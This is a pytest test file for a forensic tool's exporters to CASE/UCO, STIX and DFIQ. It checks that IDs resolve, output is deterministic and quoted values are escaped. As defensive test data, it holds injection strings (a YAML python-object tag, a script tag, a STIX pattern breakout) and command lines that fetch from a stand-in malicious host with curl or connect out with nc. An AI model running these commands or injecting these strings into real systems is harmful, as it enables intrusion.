"""Exports for other programs: CASE/UCO, STIX and DFIQ hold together, escape what they quote, and are the same twice."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
import yaml
from report_builders import fact, phenomenon, report

from wigmore.registry import found
from wigmore.reports import case_uco
from wigmore.reports.data import ReportData
from wigmore.reports.stix import bundle, pattern, quoted
from wigmore.reports.stix_values import Value, values

HOSTILE = "\"'\\ ] \x00\u202e\ud800\n--- !!python/object:x\n&a *a {[<script>"
NAMES = ("case", "stix", "dfiq")


def written(name: str, folder: Path, data: Any) -> str:
    return str(found("format")[name].function(data, folder).read_text("utf-8"))


@pytest.mark.parametrize("text", ["plain", HOSTILE])
@pytest.mark.parametrize("name", NAMES)
def test_a_format_writes_the_file_it_names_twice_alike(tmp_path: Path, name: str, text: str) -> None:
    first = written(name, tmp_path, report(12, text))
    assert (tmp_path / found("format")[name].file_name).read_text("utf-8") == first
    assert written(name, tmp_path, report(12, text)) == first


@pytest.mark.parametrize("name", NAMES)
def test_a_case_with_nothing_in_it_is_written(tmp_path: Path, name: str) -> None:
    data = report(0, "plain", 0)
    data.context, data.sources, data.questions = {"origin": data.context["origin"]}, [], []
    assert written(name, tmp_path, data)


# CASE/UCO


def walk(value: Any) -> Iterator[dict[str, Any]]:
    """Every object of a JSON value."""
    if isinstance(value, dict):
        yield value
    for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from walk(item)


def graph(folder: Path, data: Any) -> list[dict[str, Any]]:
    out = json.loads(written("case", folder, data))
    assert set(out) == {"@context", "@graph"}
    assert isinstance(out["@graph"], list)
    return out["@graph"]


@pytest.mark.parametrize("text", ["plain", HOSTILE])
def test_ids_are_unique_end_in_a_uuid_and_every_reference_resolves(tmp_path: Path, text: str) -> None:
    nodes = graph(tmp_path, report(12, text))
    made = [x["@id"] for x in walk(nodes) if "@type" in x and "@id" in x]
    assert len(made) == len(set(made))
    for name in made:
        if name.startswith("kb:"):
            UUID(name[-36:])
    wanted = {x["@id"] for x in walk(nodes) if set(x) == {"@id"}}
    assert wanted
    assert wanted <= set(made)


def test_only_declared_words_of_ours_and_words_of_named_vocabularies_are_used(tmp_path: Path) -> None:
    nodes = graph(tmp_path, report(12, "plain"))
    declared = {x["@id"] for x in nodes if x["@type"] == "owl:DatatypeProperty"}
    words = {k for x in walk(nodes) for k in x if not k.startswith("@")}
    assert {w for w in words if w.startswith("wigmore:")} <= declared
    assert {w.split(":")[0] for w in words} <= set(case_uco.CONTEXT)
    types = {x["@type"] for x in walk(nodes) if "@type" in x}
    assert not any(t.startswith("wigmore:") for t in types)


def test_each_source_fact_call_and_hypothesis_has_its_node(tmp_path: Path) -> None:
    data = report(12, "plain")
    nodes = graph(tmp_path, data)
    kinds = [x["@type"] for x in nodes]
    assert kinds.count("investigation:Investigation") == 1
    assert kinds.count("investigation:ProvenanceRecord") == len(data.sources)
    assert kinds.count("investigation:InvestigativeAction") == 1 + len(data.context["invocations"])
    facts = [x for x in nodes if "wigmore:factId" in x]
    assert len(facts) == sum(len(p["facts"]) for p in data.phenomena)
    call = next(x for x in nodes if x.get("wigmore:itemId") == "inv-1")
    assert {f["@id"] for f in facts} <= {r["@id"] for r in call["action:result"]}
    verdicts = {x["wigmore:itemId"]: x["wigmore:verdict"] for x in nodes if "wigmore:verdict" in x}
    assert verdicts == {h["id"]: h["conclusion"] for h in data.hypotheses}


def test_the_working_score_is_no_part_of_the_exchange(tmp_path: Path) -> None:
    for name in NAMES:
        text = written(name, tmp_path, report(12, "plain"))
        assert "0.9468" not in text
        assert "confidence" not in text


def test_the_hash_of_a_source_is_a_hexadecimal_literal_under_its_object(tmp_path: Path) -> None:
    nodes = graph(tmp_path, report(3, "plain"))
    hashes = [x for x in walk(nodes) if x.get("@type") == "types:Hash"]
    assert {"@type": "xsd:hexBinary", "@value": "D" * 64} in [h["types:hashValue"] for h in hashes]


def test_a_path_that_two_entries_share_has_the_hashes_of_neither(tmp_path: Path) -> None:
    data = report(1, "plain")
    path = data.phenomena[0]["facts"][0]["path"]
    rows = list(data.records())
    entries = [{**rows[0], "path": path}, {**rows[1], "path": path}]
    data.records = lambda: iter(entries)
    file = next(x for x in graph(tmp_path, data) if x["@type"] == "observable:File")
    assert [f["@type"] for f in file["core:hasFacet"]] == ["observable:FileFacet"]
    data.records = lambda: iter(entries[:1])
    file = next(x for x in graph(tmp_path, data) if x["@type"] == "observable:File")
    assert [f["@type"] for f in file["core:hasFacet"]] == ["observable:FileFacet", "observable:ContentDataFacet"]


# STIX


def seen(*facts: dict[str, Any], **more: Any) -> dict[str, Any]:
    """An observation with these facts."""
    return {**phenomenon(1, "plain", 0), "occurred_at": "2026-01-02T03:04:05.678Z", "facts": list(facts), **more}


def of(name: str, value: Any) -> list[tuple[str, str]]:
    return [(v.kind, v.text) for v, _ in values(seen({**fact(1, "plain", name), "value": value}))]


@pytest.mark.parametrize(
    "name, value, wanted",
    [
        ("DestinationIp", "8.8.4.4", [("ip", "8.8.4.4")]),
        ("DestinationIp", "10.0.0.7", []),
        ("DestinationIp", "2001:4860:4860::8888", [("ip", "2001:4860:4860::8888")]),
        ("FileVersion", "10.0.19041.1", []),
        ("QueryName", "Bad.Example.COM", [("domain", "bad.example.com")]),
        ("QueryName", "printer.local", []),
        ("Image", "svchost.exe", []),
        ("sender", "a.b@bad.example.com", [("email", "a.b@bad.example.com")]),
        ("url", "https://bad.example.com/x?y=1", [("url", "https://bad.example.com/x?y=1")]),
        ("Image", "C:\\TMP\\p.exe", [("name", "p.exe")]),
        ("Image", "C:\\Windows\\System32\\cmd.exe", []),
        ("ParentImage", "C:\\TMP\\p.exe", []),
        ("Hashes", "MD5=" + "a" * 32 + ",SHA256=" + "B" * 64, [("MD5", "a" * 32), ("SHA-256", "b" * 64)]),
        ("CommandLine", "curl http://bad.example.com/k -o x", [("url", "http://bad.example.com/k")]),
        ("CommandLine", "nc 8.8.4.4 9999", [("ip", "8.8.4.4")]),
        ("Comment", "see http://bad.example.com/k for more", []),
        ("count", 5, []),
    ],
)
def test_a_value_is_taken_where_it_is_one(name: str, value: Any, wanted: list[tuple[str, str]]) -> None:
    assert of(name, value) == wanted


def test_the_hash_of_a_program_in_a_system_folder_is_no_indicator() -> None:
    image = {**fact(1, "plain", "Image"), "value": "C:\\Windows\\System32\\whoami.exe"}
    digest = {**fact(1, "plain", "Hashes"), "value": "SHA256=" + "a" * 64}
    assert list(values(seen(image, digest))) == []
    assert list(values(seen({**image, "value": "C:\\TMP\\x.exe"}, digest)))


def test_words_of_ours_give_no_indicator() -> None:
    data = report(1)
    data.phenomena = [seen(fact(1, "plain"), title="http://bad.example.com/ 8.8.4.4", interpretation="a@b.example.com")]
    assert [o["type"] for o in bundle(data)["objects"]] == ["identity"]


def test_observations_without_attack_ids_count_only_if_a_list_or_rule_of_the_examiner_made_them() -> None:
    data = report(1)
    listed = [
        {**fact(1, "plain", name), "value": value}
        for name, value in (("ioc_type", "domain"), ("ioc", "bad.example.com"), ("list_sha256", "c" * 64))
    ]
    for rule, count in (("other.rule", 0), ("lists.indicator_in_content", 1)):
        data.phenomena = [seen(*listed, rule=rule, attack=[])]
        patterns = [o["pattern"] for o in bundle(data)["objects"] if o["type"] == "indicator"]
        assert patterns == ["[domain-name:value = 'bad.example.com']"] * count
    data.phenomena[0]["negative"] = True
    assert [o["type"] for o in bundle(data)["objects"]] == ["identity"]


def test_a_pattern_cannot_be_left_by_its_value() -> None:
    text = "x' OR file:name = 'y\\"
    assert quoted(text) == "'x\\' OR file:name = \\'y\\\\'"
    body = pattern(Value("name", text))
    assert re.fullmatch(r"\[file:name = '(?:[^'\\]|\\['\\])*'\]", body)


def test_a_bundle_holds_what_it_refers_to_and_says_when_and_where_a_value_was_seen() -> None:
    data = report(1)
    data.phenomena = [seen({**fact(1, "plain", "Image"), "value": "C:\\TMP\\p.exe"})]
    objects = {o["id"]: o for o in bundle(data)["objects"]}
    kinds = sorted(o["type"] for o in objects.values())
    assert kinds == ["directory", "file", "identity", "indicator", "observed-data", "sighting"]
    for thing in objects.values():
        for key, value in thing.items():
            if key.endswith("_ref"):
                assert value in objects
            if key.endswith("_refs"):
                assert set(value) <= set(objects)
    sighting = next(o for o in objects.values() if o["type"] == "sighting")
    assert sighting["first_seen"] == "2026-01-02T03:04:05.678Z"
    assert sighting["external_references"][0]["external_id"] == data.phenomena[0]["facts"][0]["fact_id"]
    indicator = objects[sighting["sighting_of_ref"]]
    assert indicator["pattern"] == "[file:name = 'p.exe' AND file:parent_directory_ref.path = 'C:\\\\TMP']"
    assert [r["external_id"] for r in indicator["external_references"]] == ["T1543.003"]
    assert not {"threat-actor", "intrusion-set", "campaign", "attack-pattern"} & set(kinds)


def test_a_sighting_without_a_known_time_has_no_observed_data() -> None:
    data = report(1)
    data.phenomena = [seen({**fact(1, "plain", "ip"), "value": "8.8.4.4"}, occurred_at="2026-01-02T03:04:05")]
    objects = bundle(data)["objects"]
    assert sorted(o["type"] for o in objects) == ["identity", "indicator", "sighting"]
    assert "first_seen" not in next(o for o in objects if o["type"] == "sighting")


# ids


def ids(data: ReportData, folder: Path) -> dict[str, set[str]]:
    """What each format names its things; observables have the ids that the standard gives their values."""
    graph = json.loads(written("case", folder, data))["@graph"]
    things = bundle(data)["objects"]
    known = {o["id"] for o in things if "created" in o}
    questions = {r["uuid"] for r in yaml.safe_load_all(written("dfiq", folder, data))}
    return {"case": {n["@id"] for n in graph if n["@id"].startswith("kb:")}, "stix": known, "dfiq": questions}


def test_ids_are_those_of_one_case_whatever_its_name(tmp_path: Path) -> None:
    data = report(3)
    data.phenomena[0] = seen({**fact(1, "plain", "ip"), "value": "8.8.4.4"})
    first = ids(data, tmp_path)
    data.context["case"] = "another name"
    assert ids(data, tmp_path) == first
    data.context["origin"] = {**data.context["origin"], "event": "f" * 64}  # another case of that name
    other = ids(data, tmp_path)
    assert all(first[kind] and not first[kind] & other[kind] for kind in first)


def test_a_later_run_makes_a_later_version_of_an_object_and_never_another_beginning() -> None:
    data = report(1)
    before = bundle(data)["objects"][0]
    data.context["run"]["finished"] = "2026-05-01T00:00:00.0Z"
    after = bundle(data)["objects"][0]
    assert (after["id"], after["created"]) == (before["id"], before["created"])
    assert before["created"] <= before["modified"] < after["modified"]


# DFIQ


def test_each_question_is_a_component_with_its_approach_and_the_state_of_its_answer(tmp_path: Path) -> None:
    data = report(3, HOSTILE)
    data.questions.append({"id": "std-A01", "question": "Which?", "standard": True, "status": "unanswered"})
    rows = list(yaml.safe_load_all(written("dfiq", tmp_path, data)))
    ids = {r["id"] for r in rows}
    assert len(ids) == len({r["uuid"] for r in rows}) == len(rows) == 5
    assert [r["type"] for r in rows] == ["scenario", "facet", "facet", "question", "question"]
    for row in rows:
        assert re.fullmatch(r"[SFQ]0\d{3}", row["id"])  # numbers that begin with 0 are for private components
        assert set(row.get("parent_ids", ())) <= ids
        assert row["dfiq_version"] == "1.1.0"
    for row in rows[3:]:
        steps = row["approaches"][0]["steps"]
        assert [s["stage"] for s in steps] == ["processing", "analysis"]
        assert all({"name", "description", "type", "value"} <= set(s) for s in steps)
    assert rows[3]["wigmore"]["status"] == "answered"
    assert rows[3]["wigmore"]["citations"]
    assert rows[4]["wigmore"] == {"id": "std-A01", "status": "unanswered"}
